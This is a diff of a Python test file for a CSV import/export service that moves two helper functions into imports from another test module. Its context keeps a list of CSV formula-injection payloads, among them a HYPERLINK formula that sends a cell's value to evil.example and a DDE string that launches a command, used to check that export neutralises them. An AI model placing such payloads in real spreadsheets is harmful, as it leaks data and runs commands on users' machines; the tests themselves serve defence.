@@ -4,7 +4,6 @@ formula cells (OWASP CSV injection) neutralised on export and read back unchange
 
 from __future__ import annotations
 
-import csv
 from decimal import Decimal
 
 import pytest
@@ -16,20 +15,11 @@ from counterapp.services.csv_io import IMPORT_COLUMNS, MAX_PROBLEMS
 from counterapp.services.csv_read import read_table, sniff_delimiter
 from counterapp.services.customers import CustomerInput, PhoneInput
 from counterapp.services.shipping import OnTimeRow, ShippingService
+from tests.services.test_csv import _rows as _cells
+from tests.services.test_csv import _write
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "@SUM(1)", "-2+3", "\tx", "\rx", "'=already quoted", "''@twice"]
-
-
-def _write(tmp_path, name, text, encoding="utf-8"):
-    path = tmp_path / name
-    path.write_bytes(text.encode(encoding))
-    return path
-
-
-def _cells(path):
-    with open(path, encoding="utf-8", newline="") as handle:
-        return list(csv.reader(handle))
 
 
 # -- real Italian files -------------------------------------------------------------------------
